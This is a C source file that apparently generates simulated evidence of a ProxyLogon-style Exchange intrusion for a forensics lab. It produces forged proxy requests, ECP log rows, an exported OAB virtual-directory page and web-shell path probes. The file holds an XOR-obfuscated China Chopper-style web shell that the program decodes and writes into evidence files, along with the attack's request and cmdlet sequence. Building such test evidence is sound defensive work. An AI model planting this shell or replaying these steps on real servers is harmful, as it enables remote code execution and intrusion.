/*
 * raid: the steps of an intrusion, as a server's evidence shows them.
 *
 * Safety   log lines and leftovers only. The words of the planted script stand here as bytes XORed with 0x5c, so that neither
 *          this file nor the program holds a web shell; the minimal shape exists only in evidence written for a test.
 * Source   proxylogon-evidence sheet, sections 3, 4, 7 and 8.2: order of the steps, shapes of rows, form of the exported page.
 */
#include "lab/lab.h"

#include <string.h>

static const uint8_t piece_open[] = {
    0x60, 0x2f, 0x3f, 0x2e, 0x35, 0x2c, 0x28, 0x7c, 0x30, 0x3d, 0x32, 0x3b, 0x29, 0x3d, 0x3b, 0x39, 0x61, 0x7e, 0x16, 0x0f,
    0x3f, 0x2e, 0x35, 0x2c, 0x28, 0x7e, 0x7c, 0x2e, 0x29, 0x32, 0x3d, 0x28, 0x61, 0x7e, 0x2f, 0x39, 0x2e, 0x2a, 0x39, 0x2e,
    0x7e, 0x62,
};
static const uint8_t piece_load[] = {
    0x3a, 0x29, 0x32, 0x3f, 0x28, 0x35, 0x33, 0x32, 0x7c, 0x0c, 0x3d, 0x3b, 0x39, 0x03, 0x10, 0x33, 0x3d, 0x38, 0x74, 0x75,
    0x27,
};
static const uint8_t piece_run[] = {
    0x39, 0x2a, 0x3d, 0x30, 0x74, 0x0e, 0x39, 0x2d, 0x29, 0x39, 0x2f, 0x28, 0x07, 0x7e,
};
static const uint8_t piece_end[] = {
    0x7e, 0x01, 0x70, 0x7e, 0x29, 0x32, 0x2f, 0x3d, 0x3a, 0x39, 0x7e, 0x75, 0x67, 0x21, 0x60, 0x73, 0x2f, 0x3f, 0x2e, 0x35,
    0x2c, 0x28, 0x62,
};

static void piece(struct buf *b, const uint8_t *p, size_t n)
{
    for (size_t i = 0; i < n; i++)
        buf_chr(b, (char)(p[i] ^ 0x5c));
}

const char *raid_script(struct lab *l, const char *key)
{
    struct buf b = { 0 };

    piece(&b, piece_open, sizeof piece_open);
    piece(&b, piece_load, sizeof piece_load);
    piece(&b, piece_run, sizeof piece_run);
    buf_str(&b, key);
    piece(&b, piece_end, sizeof piece_end);
    buf_chr(&b, 0);
    const char *text = pool_fmt(&l->keep, "%s", b.p);
    buf_free(&b);
    return text;
}

static const char *fqdn(struct lab *l)
{
    char        low[32];
    const char *s = l->server;
    size_t      k = 0;

    for (; *s && k + 1 < sizeof low; s++)
        low[k++] = (char)ch_lower((uint8_t)*s);
    low[k] = 0;
    return pool_fmt(&l->keep, "%s.%s", low, l->domain);
}

/* One forged request: IIS front, HttpProxy, and the back end where it arrived. */
void raid_forge(struct lab *l, const struct raid *r, int64_t t, const char *target, const char *method, int status, uint64_t bytes, const char *soap)
{
    struct event *e = story_event(l, E_WEB, t);
    const char   *ask = strchr(target, '?');
    bool          reached = status < 500;

    e->proto = !strncmp(r->script, "/owa/", 5) ? P_OWA : P_ECP;
    e->method = method;
    e->stem = r->script;
    e->client = r->client;
    e->ua = r->ua;
    e->status = e->back_status = status;
    e->auth = "FBA";
    e->anchor = pool_fmt(&l->keep, "ServerInfo~a]@%s:444%s#", r->other ? r->other : fqdn(l), target);
    e->hint = "X-BEResource-Cookie";
    e->routing = "CrossRegion";
    e->request_bytes = 400 + strlen(target) * 3;
    e->response_bytes = bytes;
    e->took_ms = 700;
    e->soap = soap;
    if (r->other || !reached)
        return;
    e->back_stem = ask ? pool_fmt(&l->keep, "%.*s", (int)(ask - target), target) : target;
    e->back_query = ask ? ask + 1 : "";
    e->back_user = pool_fmt(&l->keep, "%s\\%s$", l->netbios, l->server);
}

void raid_look(struct lab *l, const struct raid *r, int64_t t)
{
    struct raid   first = *r;
    struct event *e = story_event(l, E_WEB, t);

    e->proto = P_RPCHTTP;
    e->stem = "/rpc/";
    e->client = r->client;
    e->ua = r->ua;
    e->status = 401;
    first.ua = "ExchangeServicesClient/0.0.0.0";
    raid_forge(l, &first, t + 2 * TIME_SECOND, "/autodiscover/autodiscover.xml?", "POST", 200, 3846, NULL);
    raid_forge(l, r, t + 5 * TIME_SECOND, pool_fmt(&l->keep, "/mapi/emsmdb/?MailboxId=00000000-1111-4222-8333-000000000099@%s", l->domain), "POST", 200, 1490, NULL);
}

void raid_admin(struct lab *l, const struct raid *r, int64_t t)
{
    raid_forge(l, r, t, "/ecp/proxyLogon.ecp?", "POST", 241, 0, NULL);
}

static void ecp_row(struct lab *l, const struct raid *r, int64_t t, const char *command, const char *verb, const char *schema, const char *failure)
{
    struct buf    b = { 0 }, data = { 0 };
    struct event *e = story_event(l, E_ECP, t);
    uint64_t      h = str_hash(str_c(r->canary)) ^ (uint64_t)t;

    buf_fmt(&data, "S:TIME=%u;S:SID=%08x-0000-4000-8000-0000000000a1;'S:CMD=", (unsigned)(h % 4000 + 300), (unsigned)str_hash(str_c(r->canary)));
    for (const char *p = command; *p; p++) {        /* the single-quote layer doubles what it holds */
        if (*p == '\'')
            buf_chr(&data, '\'');
        buf_chr(&data, *p);
    }
    /* Both spellings of the next item are in published rows: with and without its own quotes. */
    const char *quote = h & 64 ? "'" : "";
    buf_fmt(&data, "';S:REQID=;%sS:URL=/ecp/DDI/DDIService.svc/%s?msExchEcpCanary=%s&schema=%s%s;S:REFERRER=;", quote, verb, r->canary, schema, quote);
    if (failure) {
        buf_str(&data, "'S:EX=");
        for (const char *p = failure; *p; p++) {
            if (*p == '\'')
                buf_chr(&data, '\'');
            buf_chr(&data, *p);
        }
        buf_str(&data, "';");
    } else
        buf_str(&data, "S:EX=;");
    buf_fmt(&data, "S:ACTID=%08x-0000-4000-8000-0000000000c3;S:RS=0;S:BLD=%s;S:TNAME=<null>;S:TID=;S:USID=;S:EDOID=;S:ACID=", (unsigned)(h >> 20),
            l->patch_us != TIME_NONE && t >= l->patch_us ? l->build_new : l->build_old);
    buf_chr(&data, 0);
    buf_fmt(&b, ",%s,ECP.Request,", l->server);
    buf_cell(&b, data.p);
    buf_chr(&b, 0);
    e->text = pool_fmt(&l->keep, "%s", b.p);
    buf_free(&b);
    buf_free(&data);
}

static const char *const oab_id = "00000000-0000-4000-8000-0000000000b2";

void raid_drop(struct lab *l, const struct raid *r, int64_t t)
{
    const char *get = pool_fmt(&l->keep, "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory", r->canary);
    const char *set = pool_fmt(&l->keep, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory", r->canary);
    const char *reset = pool_fmt(&l->keep, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=ResetOABVirtualDirectory", r->canary);
    const char *name = pool_fmt(&l->keep, "%s\\OAB (Default Web Site)", l->server);

    ecp_row(l, r, t + 1 * TIME_SECOND, "Get-OabVirtualDirectory.ADPropertiesOnly=$true", "GetObject", "OABVirtualDirectory", NULL);
    raid_forge(l, r, t + 2 * TIME_SECOND, get, "POST", 200, 2810, NULL);
    ecp_row(l, r, t + 5 * TIME_SECOND, pool_fmt(&l->keep, "Set-OabVirtualDirectory.ExternalUrl='http://f/%s'.Identity='%s'", raid_script(l, r->key), oab_id), "SetObject", "OABVirtualDirectory", NULL);
    raid_forge(l, r, t + 6 * TIME_SECOND, set, "POST", 200, 311, NULL);
    ecp_row(l, r, t + 7 * TIME_SECOND, pool_fmt(&l->keep, "Get-OabVirtualDirectory.Identity='%s'", oab_id), "SetObject", "OABVirtualDirectory", NULL);
    ecp_row(l, r, t + 9 * TIME_SECOND, pool_fmt(&l->keep, "Get-ExchangeServer.Identity='%s'", l->server), "SetObject", "ResetOABVirtualDirectory", NULL);
    ecp_row(l, r, t + 10 * TIME_SECOND, pool_fmt(&l->keep, "Remove-OABVirtualDirectory.Force=$true.Identity='%s'", name), "SetObject", "ResetOABVirtualDirectory", NULL);
    ecp_row(l, r, t + 12 * TIME_SECOND, pool_fmt(&l->keep, "New-OABVirtualDirectory.Role='ClientAccess'.InternalUrl='https://%s/OAB'.WebSiteName='Default Web Site'.Path='%s\\FrontEnd\\HttpProxy\\OAB'", fqdn(l), l->install_win),
            "SetObject", "ResetOABVirtualDirectory", NULL);
    raid_forge(l, r, t + 13 * TIME_SECOND, reset, "POST", 200, 240, NULL);
}

void raid_clean(struct lab *l, const struct raid *r, int64_t t)
{
    ecp_row(l, r, t, pool_fmt(&l->keep, "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='%s'", oab_id), "SetObject", "OABVirtualDirectory",
            pool_fmt(&l->keep, "Microsoft.Exchange.Configuration.Tasks.ManagementObjectNotFoundException: The operation couldn't be performed because object '%s' couldn't be found on 'dc01.%s'. ---> "
                     "Microsoft.Exchange.Data.Directory.ADNoSuchObjectException: Active Directory operation failed on dc01.%s. This error is not retriable. Additional information: \"00002030: NameErr: DSID-03100245, problem 2001 (NO_OBJECT), "
                     "data 0, best match of:\\r\\n\\t'CN=Protocols,CN=%s'\" \\r\\n   at Microsoft.Exchange.Data.Directory.PooledLdapConnection.SendRequest()", oab_id, l->domain, l->domain, l->server));
    raid_forge(l, r, t + TIME_SECOND, pool_fmt(&l->keep, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory", r->canary), "POST", 200, 980, NULL);
}

static void line(struct buf *b, const char *key, const char *value) { buf_fmt(b, "%-32s: %s\r\n", key, value); }

void raid_page(struct lab *l, const char *path, const char *key, int64_t t)
{
    struct buf   b = { 0 };
    struct civil c = civil_of(t);
    const char  *when = pool_fmt(&l->keep, "%d/%d/%d %d:%02d:%02d %s", c.month, c.day, c.year, c.hour % 12 ? c.hour % 12 : 12, c.minute, c.second, c.hour < 12 ? "AM" : "PM");
    const char  *org = pool_fmt(&l->keep, "CN=First Organization,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=%s,DC=example", l->netbios);
    int          v[4] = { 0 };

    sscanf(l->build_old, "%d.%d.%d.%d", &v[0], &v[1], &v[2], &v[3]);
    line(&b, "Name", "OAB (Default Web Site)");
    line(&b, "PollInterval", "480");
    line(&b, "OfflineAddressBooks", "\\Default Offline Address Book");
    line(&b, "RequireSSL", "True");
    line(&b, "BasicAuthentication", "False");
    line(&b, "WindowsAuthentication", "True");
    line(&b, "OAuthAuthentication", "True");
    line(&b, "MetabasePath", pool_fmt(&l->keep, "IIS://%s/W3SVC/1/ROOT/OAB", fqdn(l)));
    line(&b, "Path", pool_fmt(&l->keep, "%s\\FrontEnd\\HttpProxy\\OAB", l->install_win));
    line(&b, "ExtendedProtectionTokenChecking", "None");
    line(&b, "ExtendedProtectionFlags", "");
    line(&b, "ExtendedProtectionSPNList", "");
    line(&b, "AdminDisplayVersion", pool_fmt(&l->keep, "Version %d.%d (Build %d.%d)", v[0], v[1], v[2], v[3]));
    line(&b, "Server", l->server);
    line(&b, "InternalUrl", pool_fmt(&l->keep, "https://%s/OAB", fqdn(l)));
    line(&b, "InternalAuthenticationMethods", "WindowsIntegrated");
    line(&b, "ExternalUrl", pool_fmt(&l->keep, "http://f/%s", raid_script(l, key)));
    line(&b, "ExternalAuthenticationMethods", "WindowsIntegrated");
    line(&b, "AdminDisplayName", "");
    line(&b, "ExchangeVersion", "0.10 (14.0.100.0)");
    line(&b, "DistinguishedName", pool_fmt(&l->keep, "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=%s,CN=Servers,%s", l->server, org));
    line(&b, "Identity", pool_fmt(&l->keep, "%s\\OAB (Default Web Site)", l->server));
    line(&b, "Guid", oab_id);
    line(&b, "ObjectCategory", pool_fmt(&l->keep, "%s/Configuration/Schema/ms-Exch-OAB-Virtual-Directory", l->domain));
    line(&b, "ObjectClass", "top\r\n                                  msExchVirtualDirectory\r\n                                  msExchOABVirtualDirectory");
    line(&b, "WhenChanged", when);
    line(&b, "WhenCreated", when);
    line(&b, "WhenChangedUTC", when);
    line(&b, "WhenCreatedUTC", when);
    line(&b, "OrganizationId", "");
    line(&b, "Id", pool_fmt(&l->keep, "%s\\OAB (Default Web Site)", l->server));
    line(&b, "OriginatingServer", pool_fmt(&l->keep, "dc01.%s", l->domain));
    line(&b, "IsValid", "True");
    file_put(l, path, (struct str){ (const uint8_t *)b.p, b.n }, t);
    buf_free(&b);
}

void raid_chopper(struct lab *l, const char *path, const char *key, int64_t t)
{
    const char *s = raid_script(l, key);

    file_put(l, path, str_c(s), t);
}

struct event *raid_visit(struct lab *l, const char *client, const char *ua, int64_t t, const char *method, const char *url, const char *query, int status)
{
    struct event *e = story_event(l, E_WEB, t);

    e->proto = !strncasecmp(url, "/owa/", 5) ? P_OWA : !strncasecmp(url, "/ecp/", 5) ? P_ECP : P_NONE;
    e->method = method;
    e->stem = url;
    e->query = query;
    e->client = client;
    e->ua = ua;
    e->status = status;
    e->win32 = status == 404 ? 2 : 0;
    e->took_ms = status == 200 ? 214 : 5;
    e->request_bytes = method[0] == 'P' ? 1460 : 310;
    e->response_bytes = status == 200 ? 2240 : 1245;
    return e;
}

void raid_localhost(struct lab *l, const char *client, int64_t t, uint32_t n)
{
    const char *ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)";

    for (uint32_t i = 0; i < n; i++) {
        struct event *e = story_event(l, E_WEB, t + i * 1300 * 1000);
        e->proto = P_OWA;
        e->stem = "/owa/auth/x.js";
        e->client = client;
        e->ua = ua;
        e->status = e->back_status = 500;
        e->anchor = "ServerInfo~localhost/ecp/default.flt?";
        e->hint = "X-AnonResource-Backend-Cookie";
        e->routing = "CrossRegion";
        e->target = "localhost";
        e->error = "HttpException";
        e->took_ms = 379;
        if (i % 3 == 2) {               /* the same try through the other cookie */
            e->proto = P_ECP;
            e->stem = "/ecp/default.flt";
            e->anchor = NULL;
            e->cookie = "Server~localhost/ecp/default.flt?~3~2021-03-08T10:00:00";
            e->hint = "X-BEResource-Cookie";
            e->status = e->back_status = 503;
        }
    }
}

void raid_names(struct lab *l, const char *client, int64_t t)
{
    static const char *const name[] = {
        "/aspnet_client/discover.aspx", "/aspnet_client/supp0rt.aspx", "/aspnet_client/shell.aspx", "/aspnet_client/system_web/log.aspx", "/aspnet_client/HttpProxy.aspx", "/aspnet_client/aspnet_client.aspx",
        "/aspnet_client/aspnet_iisstart.aspx", "/aspnet_client/one.aspx", "/aspnet_client/load.aspx", "/owa/auth/OutlookEN.aspx", "/owa/auth/errorEE.aspx", "/owa/auth/logout.aspx", "/owa/auth/RedirSuiteServerProxy.aspx",
        "/owa/auth/Current/one1.aspx", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", "/owa/auth/HttpProxy.aspx",
    };
    for (size_t i = 0; i < sizeof name / sizeof *name; i++)
        raid_visit(l, client, "python-requests/2.25.1", t + (int64_t)i * 180 * 1000, i % 7 == 6 ? "POST" : "GET", name[i], NULL, !strncmp(name[i], "/owa/", 5) ? 302 : 404);
}
